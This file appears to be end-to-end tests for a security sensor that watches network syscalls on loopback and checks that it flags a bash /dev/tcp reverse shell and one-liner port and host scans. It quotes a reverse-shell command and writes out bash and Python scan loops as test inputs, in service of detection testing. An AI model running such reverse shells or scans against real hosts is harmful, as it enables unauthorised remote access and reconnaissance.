//! Network syscalls and descriptor redirection, end to end, on loopback only.

use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    os::unix::net::UnixListener,
    time::Duration,
};

use sensor_e2e::{Agent, ReverseShell, argv, event_of, java_reenact, marker, num};
use serde_json::Value;

fn pid() -> u64 {
    u64::from(std::process::id())
}

fn socket(ev: &Value, kind: &str) -> Value {
    ev[kind]["socket"].clone()
}

#[test]
fn loopback_connect_accept_bind_listen_with_addresses() {
    let mut agent = Agent::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = u64::from(listener.local_addr().unwrap().port());
    let client = TcpStream::connect(("127.0.0.1", port as u16)).unwrap();
    let client_port = u64::from(client.local_addr().unwrap().port());
    let (_server, _) = listener.accept().unwrap();

    let bind = agent.wait_for("bind of the listener", |l| {
        event_of(l, "bind").is_some_and(|e| {
            num(&e["pid"]) == pid() && e["bind"]["socket"]["localAddr"] == "127.0.0.1"
        })
    });
    assert_eq!(socket(&bind["event"], "bind")["family"], "inet");
    let listen = agent.wait_for("listen", |l| {
        event_of(l, "listen").is_some_and(|e| {
            num(&e["pid"]) == pid() && num(&e["listen"]["socket"]["localPort"]) == port
        })
    });
    assert!(num(&listen["event"]["listen"]["backlog"]) > 0);
    assert_eq!(socket(&listen["event"], "listen")["type"], "stream");

    let connect = agent.wait_for("connect to the listener", |l| {
        event_of(l, "connect").is_some_and(|e| {
            num(&e["pid"]) == pid() && num(&e["connect"]["socket"]["remotePort"]) == port
        })
    });
    let s = socket(&connect["event"], "connect");
    assert_eq!(s["remoteAddr"], "127.0.0.1");
    assert_eq!(s["family"], "inet");
    assert_eq!(num(&s["localPort"]), client_port);
    assert_eq!(
        connect["event"]["connect"]["error"],
        Value::Null,
        "a success has no error"
    );

    let accept = agent.wait_for("accept of the client", |l| {
        event_of(l, "accept").is_some_and(|e| {
            num(&e["pid"]) == pid() && num(&e["accept"]["socket"]["remotePort"]) == client_port
        })
    });
    let s = socket(&accept["event"], "accept");
    assert_eq!(num(&s["localPort"]), port);
    assert_eq!(s["localAddr"], "127.0.0.1");
    assert_eq!(s["remoteAddr"], "127.0.0.1");
    agent.stop();
}

#[test]
fn refused_ipv6_and_unix_connects() {
    let mut agent = Agent::start(&[]);
    // A port nobody listens on: take one, then free it.
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    assert!(TcpStream::connect(("127.0.0.1", port)).is_err());
    let v6 = TcpListener::bind("[::1]:0").unwrap();
    let v6_port = v6.local_addr().unwrap().port();
    let _c = TcpStream::connect(("::1", v6_port)).unwrap();
    let dir = std::env::temp_dir().join(marker("unix"));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("s.sock");
    let _ul = UnixListener::bind(&path).unwrap();
    let _uc = std::os::unix::net::UnixStream::connect(&path).unwrap();

    let refused = agent.wait_for("the refused connect", |l| {
        event_of(l, "connect")
            .is_some_and(|e| num(&e["connect"]["socket"]["remotePort"]) == u64::from(port))
    });
    assert_eq!(refused["event"]["connect"]["error"], "ECONNREFUSED");
    assert_eq!(
        refused["event"]["connect"]["result"],
        -(libc::ECONNREFUSED as i64)
    );

    let v6 = agent.wait_for("the IPv6 connect", |l| {
        event_of(l, "connect")
            .is_some_and(|e| num(&e["connect"]["socket"]["remotePort"]) == u64::from(v6_port))
    });
    assert_eq!(socket(&v6["event"], "connect")["remoteAddr"], "::1");
    assert_eq!(socket(&v6["event"], "connect")["family"], "inet6");

    let p = path.to_str().unwrap().to_owned();
    let unix = agent.wait_for("the unix connect", |l| {
        event_of(l, "connect").is_some_and(|e| e["connect"]["unixPath"] == p.as_str())
    });
    assert_eq!(socket(&unix["event"], "connect")["family"], "unix");
    let bind = agent.wait_for("the unix bind", |l| {
        event_of(l, "bind").is_some_and(|e| e["bind"]["unixPath"] == p.as_str())
    });
    assert_eq!(num(&bind["event"]["pid"]), pid());
    let _ = std::fs::remove_dir_all(dir);
    agent.stop();
}

/// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`: the shell's descriptors 0-2 are the socket
/// at exec, and the dup2 calls that put them there carry the socket's addresses.
#[test]
fn bash_dev_tcp_reverse_shell_has_a_socket_on_stdio() {
    let mut agent = Agent::start(&[]);
    let ReverseShell {
        mut shell,
        mut conn,
        port,
    } = ReverseShell::start(&marker("revsh"));
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    conn.write_all(b"echo reverse-$((6*7)); exit\n").unwrap();
    let mut got = String::new();
    let _ = conn.read_to_string(&mut got);
    assert!(
        got.contains("reverse-42"),
        "the shell answered over the socket: {got:?}"
    );
    let _ = shell.wait();

    let exec = agent.wait_for("the exec of the interactive shell", |l| {
        event_of(l, "exec").is_some_and(|e| argv(e) == ["bash", "-i"])
            && num(&l["event"]["exec"]["ppid"]) == u64::from(shell.id())
    });
    let stdio = exec["event"]["exec"]["stdio"].as_array().unwrap();
    for (fd, info) in stdio.iter().enumerate() {
        assert_eq!(info["kind"], "FD_KIND_SOCKET", "fd {fd}: {info}");
        assert_eq!(
            num(&info["socket"]["remotePort"]),
            u64::from(port),
            "fd {fd}"
        );
        assert_eq!(info["socket"]["remoteAddr"], "127.0.0.1");
    }
    let shell_child = num(&exec["event"]["pid"]);
    let dups = agent.collect(Duration::from_millis(200), |l| {
        event_of(l, "dup").is_some_and(|e| num(&e["pid"]) == shell_child)
    });
    assert!(dups.len() >= 2, "dup2 onto 1 and 2 (and 0): {dups:?}");
    for dup in &dups {
        let file = &dup["event"]["dup"]["file"];
        assert_eq!(file["kind"], "FD_KIND_SOCKET", "{dup}");
        assert_eq!(num(&file["socket"]["remotePort"]), u64::from(port));
    }
    agent.stop();
}

/// A JVM child started by Runtime.exec gets pipes on 0-2, never sockets, and its parent is
/// the JVM process even though a worker thread forked it.
#[test]
fn jvm_runtime_exec_child_has_pipes_not_sockets() {
    let mut agent = Agent::start(&[]);
    let tag = marker("jvm");
    let out = java_reenact(&["exec", "/bin/sh", "-c", &format!("echo {tag}")])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(&tag),
        "{out:?}"
    );

    let exec = agent.wait_for("the shell the JVM started", |l| {
        event_of(l, "exec").is_some_and(|e| {
            let argv = argv(e);
            argv.first().is_some_and(|a| a == "/bin/sh")
                && argv.last().is_some_and(|a| a.contains(&tag))
        })
    });
    let ev = &exec["event"]["exec"];
    for (fd, info) in ev["stdio"].as_array().unwrap().iter().enumerate() {
        assert_eq!(info["kind"], "FD_KIND_PIPE", "fd {fd}: {info}");
    }
    assert_eq!(
        ev["parentThreadComm"], "http-bio-127.0.",
        "the forking thread's name"
    );
    let jvm = num(&ev["ppid"]);
    let jvm_exec = agent.wait_for("the JVM itself", |l| {
        event_of(l, "exec").is_some_and(|e| num(&e["pid"]) == jvm)
    });
    assert!(
        jvm_exec["event"]["exec"]["exe"]
            .as_str()
            .unwrap()
            .ends_with("/java"),
        "the parent is the JVM process: {jvm_exec}"
    );
    // The JVM's own plumbing dups pipes onto 0-2 in the child: never a socket.
    let child = num(&exec["event"]["pid"]);
    let dups = agent.collect(Duration::from_millis(200), |l| {
        event_of(l, "dup").is_some_and(|e| num(&e["pid"]) == child)
    });
    for dup in dups {
        assert_ne!(
            dup["event"]["dup"]["file"]["kind"], "FD_KIND_SOCKET",
            "{dup}"
        );
    }
    agent.stop();
}

#[test]
fn socket_creation_reports_family_and_type() {
    let mut agent = Agent::start(&[]);
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let fd = std::os::fd::AsRawFd::as_raw_fd(&udp);
    let line = agent.wait_for("the UDP socket", |l| {
        event_of(l, "socket").is_some_and(|e| {
            num(&e["pid"]) == pid()
                && num(&e["socket"]["fd"]) == fd as u64
                && e["socket"]["type"] == "dgram"
        })
    });
    assert_eq!(line["event"]["socket"]["family"], "inet");
    agent.stop();
}

/// A port that nothing listens on (bound, then released).
fn closed_port() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.local_addr().unwrap().port()
}

/// A scan is what a process tree does, not a tool's name: a bash /dev/tcp loop run by
/// the web tier over 20 ports, and a python one-liner outside it over 20 loopback hosts
/// (every connect refused), each raise EPMM-B21-SCAN (T1046).
#[test]
fn scans_by_one_liners_are_recognised_by_their_fan_out() {
    use sensor_e2e::{alert_of, tomcat_reenact};
    let mut agent = Agent::start(&[]);

    let tag = marker("portscan");
    let first = closed_port();
    let loop_ = format!(
        "for i in $(seq 0 19); do (exec 3<>/dev/tcp/127.0.0.1/$(({first} + i))) 2>/dev/null; done; : {tag}"
    );
    let out = tomcat_reenact(&["exec", "/bin/bash", "-c", &loop_])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let line = agent.wait_for("EPMM-B21-SCAN from the web tier", |l| {
        alert_of(l, "EPMM-B21-SCAN").is_some_and(|a| a.to_string().contains(&tag))
    });
    let alert = &line["alert"];
    assert_eq!(alert["techniques"], serde_json::json!(["T1046"]));
    assert_eq!(alert["lineage"]["identity"], "tomcat");
    let ports: std::collections::BTreeSet<u64> = alert["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| num(&e["connect"]["socket"]["remotePort"]))
        .collect();
    assert_eq!(ports.len(), 8, "distinct ports as evidence: {ports:?}");

    let tag = marker("hostsweep");
    let port = closed_port();
    let sweep = format!(
        "import socket\nfor i in range(1, 21):\n    s = socket.socket()\n    s.settimeout(1)\n    s.connect_ex(('127.0.0.%d' % i, {port}))\n    s.close()\n# {tag}\n"
    );
    let status = std::process::Command::new("python3")
        .args(["-c", &sweep])
        .status()
        .unwrap();
    assert!(status.success());
    let line = agent.wait_for("EPMM-B21-SCAN of hosts", |l| {
        alert_of(l, "EPMM-B21-SCAN")
            .is_some_and(|a| a["process"]["argv"].to_string().contains(&tag))
    });
    // Python connects without blocking under a timeout: each is left pending (the
    // refusal comes later, through SO_ERROR) or refused outright.
    let evidence = line["alert"]["evidence"].as_array().unwrap();
    assert!(
        evidence
            .iter()
            .all(|e| e["connect"]["inProgress"] == true || e["connect"]["error"] == "ECONNREFUSED"),
        "{evidence:?}"
    );
    agent.stop();
}
